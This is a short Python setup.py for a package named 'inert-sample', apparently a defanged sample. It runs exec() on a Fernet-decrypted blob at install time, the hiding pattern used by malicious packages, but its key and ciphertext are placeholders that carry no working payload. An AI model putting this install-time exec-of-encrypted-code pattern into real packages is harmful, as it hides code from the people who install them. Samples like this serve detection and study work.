from setuptools import setup
from fernet import Fernet

exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABinert'))
setup(name="inert-sample")
